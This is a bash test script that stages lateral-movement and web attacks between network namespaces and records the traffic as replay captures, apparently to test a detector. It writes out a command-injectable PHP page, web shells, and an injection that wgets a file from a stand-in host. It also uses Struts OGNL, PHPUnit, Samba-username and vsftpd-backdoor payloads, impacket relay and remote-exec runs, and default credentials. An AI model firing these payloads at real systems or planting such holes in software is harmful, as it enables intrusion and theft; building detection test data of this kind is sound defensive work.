#!/bin/bash
# SPDX-License-Identifier: MIT
# steps.sh SCENARIO...|all|list: steps from host to host and into a web server by packaged programs, between the namespaces of
# ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping samba smbclient python3-impacket python3-ldap3 python3-winrm openssh-server
# openssh-client php-cli weevely curl wget xrdp freerdp2-x11 xvfb socat vsftpd.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-stp}
all=(relay_ntlmrelayx shares_netview pivot_smbexec edges_smbexec winrm_pywinrm task_atexec
    pipe_agents benign_pipes wmi_wmiexec dcom_dcomexec rdp_relay_socat web_exploit_php web_shell_php
    consoles_curl names_smbclient benign_consoles benign_steps)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
secret=Secret-1
client=(smbclient -U "CORP/root%$secret")

prepare() {
    local last
    mkdir -p "$dir"/{admin/Temp,docs,me,www/upload}
    printf 'MZ\x90\0' | cat - <(head -c 60 /dev/zero) >"$dir/me/updater.exe"
    python3 - "$dir/me/updater.exe" <<'PY'
import random, struct, sys
random.seed(7)
head = b'MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0' + bytes(44) + struct.pack('<I', 128) + bytes(64) + b'PE\0\0\x64\x86\6\0'
open(sys.argv[1], 'wb').write(head + bytes(random.randrange(256) for _ in range(9000)))
PY
    scripts
    echo '<p>Tea, bread and the weather.</p>' >"$dir/www/index.html"
    echo 'echo ok' >"$dir/docs/x"
    for last in $(seq 23 33); do ip -n "$XFL_PREFIX-srv" addr add "10.20.2.$last/24" dev xs1; done
    ip -n "$XFL_PREFIX-srv" route add 10.20.1.0/24 via 10.20.2.1 src 10.20.2.20 # hosts of this side speak as what they are
    chmod -R a+rwX "$dir"
    shares srv
}

scripts() { # a page that does what it should not, and two that intruders leave
    cat >"$dir/www/ping.php" <<'PHP'
<?php echo "<pre>" . shell_exec("ping -c 1 -W 1 " . $_GET["ip"] . " 2>&1") . "</pre>";
PHP
    echo "<?php system(\$_POST['c']);" >"$dir/www/upload/img_7.php"
    echo "<?php eval(base64_decode(\$_POST['z']));" >"$dir/www/upload/img_8.php"
}

shares() { # namespace: a server of Windows' shares
    local at=$dir/smb-$1
    mkdir -p "$at"
    cat >"$at/smb.conf" <<CONF
[global]
 workgroup = CORP
 netbios name = HOST-$1
 smb ports = 445
 lock directory = $at
 state directory = $at
 cache directory = $at
 pid directory = $at
 private dir = $at
 ncalrpc dir = $at/ncalrpc
 log file = $at/smbd.log
 passdb backend = tdbsam:$at/passdb.tdb
 disable spoolss = yes
 load printers = no
 server smb encrypt = off
 ntlm auth = yes
 admin users = root
[ADMIN\$]
 path = $dir/admin
 read only = no
[docs]
 path = $dir/docs
 read only = no
CONF
    printf '%s\n%s\n' $secret $secret | smbpasswd -c "$at/smb.conf" -s -a root >/dev/null 2>&1
    bg "smbd-$1" ip netns exec "$XFL_PREFIX-$1" smbd -F --no-process-group -s "$at/smb.conf"
    sleep 1.5
}

example() { # namespace seconds example arguments...
    ip netns exec "$XFL_PREFIX-$1" timeout "$2" /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$3.py" "${@:4}" || true
}

from() { # namespace address command...: speaks from that address
    local net=10.20.1 far=2
    [ "$1" = srv ] || { net=10.20.2 far=1; }
    ip -n "$XFL_PREFIX-$1" route replace "$net.0/24" via "10.20.$far.1" src "$2"
    ip netns exec "$XFL_PREFIX-$1" "${@:3}" || true
}

# ---- scenarios ----

relay_ntlmrelayx() { # 10.20.2.21 opens a share of the relay at 10.20.1.13, which goes on to 10.20.2.20 as that user
    local name
    mkdir -p "$dir"/lib/dsinternals/{system,common/cryptography,common/data/hello} # named at the head of its LDAP attack, not used here
    for name in system/Guid common/cryptography/X509Certificate2 system/DateTime common/data/hello/KeyCredential; do
        echo "${name##*/} = None" >"$dir/lib/dsinternals/$name.py"
    done
    from cli 10.20.1.13 true
    sleep 60 | "${cli[@]}" env "PYTHONPATH=$dir/lib" /usr/bin/python3 /usr/share/doc/python3-impacket/examples/ntlmrelayx.py \
        -t smb://10.20.2.20 -smb2support --no-http-server --no-wcf-server --no-raw-server -ip 10.20.1.13 -l "$dir/me" >"$dir/relayx.log" 2>&1 &
    pids+=($!)
    for _ in $(seq 40); do
        "${cli[@]}" ss -ltn | grep -q 10.20.1.13:445 && break
        sleep 0.5
    done
    from srv 10.20.2.21 timeout 8 "${client[@]}" //10.20.1.13/docs -c ls
    sleep 3
}

shares_netview() { # host after host asked who has sessions there (netview leaves every other one out)
    from cli 10.20.1.10 true
    seq -f '10.20.2.%g' 20 33 >"$dir/targets"
    example cli 40 netview -targets "$dir/targets" -noloop "CORP/root:$secret"
}

copy() { # namespace own-address server
    from "$1" "$2" timeout 10 "${client[@]}" "//$3/ADMIN\$" -c "cd Temp; lcd $dir/me; put updater.exe"
}

pivot_smbexec() { # a program and a service to 10.20.2.20, from there to 10.20.1.12
    shares cli
    copy cli 10.20.1.10 10.20.2.20
    example cli 15 smbexec "CORP/root:$secret@10.20.2.20"
    copy srv 10.20.2.20 10.20.1.12
    example srv 15 smbexec "CORP/root:$secret@10.20.1.12"
}

edges_smbexec() { # 10.20.1.10 administers 10.20.2.20, after a week again; then 10.20.1.11 does so to 10.20.2.22
    copy cli 10.20.1.10 10.20.2.20
    "${cli[@]}" ping -q -s 8 -c 290 -i 0.1 10.20.2.20 # somebody is always there: packets tell the time
    copy cli 10.20.1.10 10.20.2.20
    sleep 1
    copy cli 10.20.1.11 10.20.2.22
    example cli 15 smbexec "CORP/root:$secret@10.20.2.22"
}
finish_edges_smbexec() { longer "$1" 800000 0.09; }

winrm_pywinrm() {
    bg winrm "${srv[@]}" python3 "$here/winrm_answer.py" 10.20.2.20
    sleep 0.7
    from cli 10.20.1.10 /usr/bin/python3 -c '
import winrm
s = winrm.Session("http://10.20.2.20:5985/wsman", auth=("CORP\\administrator", "Winter-24"), transport="basic")
for c in ("whoami", "hostname", "ipconfig"):
    print(s.run_cmd(c).std_out)
print(s.run_ps("Get-Process").status_code)'
}

task_atexec() { # a task made, run, asked about and deleted, all sealed; in the clear it is of one pipe and its size
    mkdir -p "$dir/other/Temp"
    bg tasks "${cli[@]}" /usr/bin/python3 "$here/task_answer.py" 10.20.1.12 administrator Winter-24 "$dir/other"
    sleep 3
    from srv 10.20.2.20 timeout 25 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/atexec.py administrator:Winter-24@10.20.1.12 whoami
    cat "$dir/tasks.log"
}

piped() { # pipe: a server of a pipe at 10.20.1.12
    mkdir -p "$dir/other"
    bg piped "${cli[@]}" /usr/bin/python3 "$here/pipe_agents.py" serve 10.20.1.12 administrator Winter-24 "$dir/other" "$1"
    sleep 3
}

lead() { # own-address turns seconds pipe
    from srv "$1" timeout 60 /usr/bin/python3 "$here/pipe_agents.py" lead 10.20.1.12 administrator Winter-24 "$4" "$2" "$3"
}

pipe_agents() { # an agent at 10.20.1.12 is led by 10.20.2.20 over a pipe of its own
    piped ntsync7
    lead 10.20.2.20 20 0.4 ntsync7
}

benign_pipes() { # a service with a protocol of its own is asked by five hosts, a few times each
    local last
    piped licences
    for last in 20 21 22 23 24; do lead "10.20.2.$last" 3 0.1 licences; done
}

objects() { # address level: a host whose objects can be called, at 10.20.1.0/24
    mkdir -p "$dir/other"
    bg "objects-$1" "${cli[@]}" /usr/bin/python3 "$here/dcom_answer.py" "$1" "$2" administrator Winter-24 "$dir/other"
}

called() { # own-address example arguments...
    from srv "$1" timeout 15 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$2.py" "${@:3}"
}

wmi_wmiexec() { # commands by WMI: readable, sealed with their output read from a share, sealed and nothing read
    objects 10.20.1.12 2
    objects 10.20.1.13 6
    sleep 4
    called 10.20.2.20 wmiexec administrator:Winter-24@10.20.1.12 whoami
    called 10.20.2.21 wmiexec administrator:Winter-24@10.20.1.13 whoami
    called 10.20.2.22 wmiexec -nooutput administrator:Winter-24@10.20.1.13 whoami
}

dcom_dcomexec() { # the same by a console's and the shell's objects
    objects 10.20.1.12 2
    objects 10.20.1.13 6
    sleep 4
    called 10.20.2.20 dcomexec -object MMC20 administrator:Winter-24@10.20.1.12 whoami
    called 10.20.2.21 dcomexec -object ShellBrowserWindow administrator:Winter-24@10.20.1.13 whoami
    called 10.20.2.22 dcomexec -object ShellWindows -nooutput administrator:Winter-24@10.20.1.13 whoami
}

desktop() { # own-address [user]: opens the desktop at address:port for some seconds
    from cli "$1" env DISPLAY=:97 timeout 5 xfreerdp "/v:$2" "/u:${3:-jo}" /p:x /cert:ignore /size:640x480 >>"$dir/freerdp.log" 2>&1
}

rdp_relay_socat() { # people open a desktop; then one whose way there is shut goes through a host in between
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$dir/rdp.key" -out "$dir/rdp.pem" -days 30 -subj /CN=ts1 2>/dev/null
    sed -e 's#^port=.*#port=tcp://10.20.2.20:3389#' -e 's/^fork=.*/fork=false/' -e "s#^certificate=.*#certificate=$dir/rdp.pem#" \
        -e "s#^key_file=.*#key_file=$dir/rdp.key#" /etc/xrdp/xrdp.ini >"$dir/xrdp.ini"
    bg xrdp "${srv[@]}" xrdp -n -c "$dir/xrdp.ini"
    bg display Xvfb :97 -screen 0 800x600x16 -nolisten tcp
    bg relay "${srv[@]}" socat TCP-LISTEN:8443,bind=10.20.2.21,fork TCP:10.20.1.11:3390,bind=10.20.2.21
    bg back "${cli[@]}" socat TCP-LISTEN:3390,bind=10.20.1.11,fork TCP:10.20.2.20:3389,bind=10.20.1.11
    sleep 2
    desktop 10.20.1.10 10.20.2.20:3389
    desktop 10.20.1.12 10.20.2.21:8443 kim
}
finish_rdp_relay_socat() { heads "$1" 40; }

php() { # a web server inside with three scripts
    bg php "${cli[@]}" php -S 10.20.1.12:80 -t "$dir/www"
    bg files "${srv[@]}" python3 -m http.server -b 203.0.113.21 -d "$dir/docs" 8088
    ip -n "$XFL_PREFIX-srv" route del 10.20.1.0/24 2>/dev/null || true
    ip -n "$XFL_PREFIX-cli" route replace 203.0.113.0/24 via 10.20.1.1 src 10.20.1.12
    sleep 0.7
}

web_exploit_php() { # a command behind a separator: the server fetches what it is told to
    php
    "${srv[@]}" curl -s -m 8 --interface 203.0.113.20 -G --data-urlencode 'ip=127.0.0.1;wget http://203.0.113.21:8088/x -O /tmp/stp.x' http://10.20.1.12/ping.php || true
    rm -f /tmp/stp.x
}

web_shell_php() { # scripts that carry out what they are sent
    local c
    php
    for c in id whoami 'uname -a' 'cat /etc/passwd' 'ls -la /'; do
        "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 --data-urlencode "c=$c" http://10.20.1.12/upload/img_7.php || true
        sleep 0.4
    done
    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 --data-urlencode "z=$(printf 'system("id; ls -la /");' | base64 -w 0)" \
        http://10.20.1.12/upload/img_8.php || true
}

consoles() { # a server of consoles that run what they are sent, as far as a client sees
    cat >"$dir/consoles.php" <<'PHP'
<?php
$uri = $_SERVER['REQUEST_URI'];
if (str_contains($uri, 'eval-stdin.php')) {
    eval('?>' . file_get_contents('php://input'));
} elseif (str_ends_with($uri, '/script') || str_contains($_SERVER['CONTENT_TYPE'] ?? '', 'ognl')) {
    echo '<pre>' . shell_exec('id') . '</pre>';
} else {
    echo "OK - done\n";
}
PHP
    bg consoles "${cli[@]}" php -S 10.20.1.12:8080 "$dir/consoles.php"
    sleep 2
}

web() { # own-address path curl's arguments...
    from srv "$1" curl -s -m 5 "http://10.20.1.12:8080$2" "${@:3}"
}

consoles_curl() { # an application that comes and goes; a script at a console; holes of PHPUnit and of Struts; the form of an authority
    consoles
    web 10.20.2.20 '/manager/text/deploy?path=/xk' -u tomcat:tomcat -T "$dir/me/updater.exe"
    sleep 1
    web 10.20.2.20 '/manager/text/undeploy?path=/xk' -u tomcat:tomcat
    web 10.20.2.21 /script --data-urlencode 'script=def p = "cmd.exe /c whoami /all".execute(); println p.text'
    web 10.20.2.22 /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php --data-binary '<?php system("id");'
    web 10.20.2.23 /show.action -H "Content-Type: %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"
    web 10.20.2.24 /certsrv/certfnsh.asp --ntlm -u corp/ws7:x -d 'Mode=newreq&CertRequest=MIIC&CertAttrib=CertificateTemplate:DomainController&TargetStoreFlags=0&SaveCert=yes'
}

names_smbclient() { # a user name that is a command, and one that opens a back door
    # shellcheck disable=SC2016 # it is a name
    from cli 10.20.1.10 timeout 8 smbclient -L 10.20.2.20 -U '/=`nohup id`%x'
    mkdir -p "$dir/empty"
    printf '%s\n' listen=YES listen_address=10.20.2.20 local_enable=YES anonymous_enable=NO pam_service_name=vsftpd \
        "secure_chroot_dir=$dir/empty" seccomp_sandbox=NO >"$dir/vsftpd.conf"
    bg ftpd "${srv[@]}" /usr/sbin/vsftpd "$dir/vsftpd.conf"
    sleep 1
    from cli 10.20.1.11 curl -s -m 5 'ftp://zq%3A%29:x@10.20.2.20/'
}

benign_consoles() { # a deployment, its pages, a search that names commands, an authority's form by its page
    consoles
    web 10.20.2.20 '/manager/text/deploy?path=/shop&update=true' -u deploy:x -T "$dir/me/updater.exe"
    web 10.20.2.20 /shop/ -A 'Mozilla/5.0'
    web 10.20.2.21 '/search?q=how+to+use+scripttext;+ls'
    web 10.20.2.22 /certsrv/certfnsh.asp -e http://10.20.1.12:8080/certsrv/certrqxt.asp -H 'Accept-Language: en' -d 'Mode=newreq&CertRequest=MIIC'
}

benign_steps() { # a user's files, an administrator's look at a server and at services, a page asked for
    copy_docs 10.20.1.10
    copy_docs 10.20.1.11
    example cli 10 services "CORP/root:$secret@10.20.2.20" list
    from cli 10.20.1.10 timeout 8 "${client[@]}" -L 10.20.2.20
    php
    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 'http://10.20.1.12/ping.php?ip=127.0.0.1' || true
    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 http://10.20.1.12/ || true
}

copy_docs() { from cli "$1" timeout 8 "${client[@]}" //10.20.2.20/docs -c "ls; get x $dir/me/got; lcd $dir/me; put got"; }

run_lab "$@"
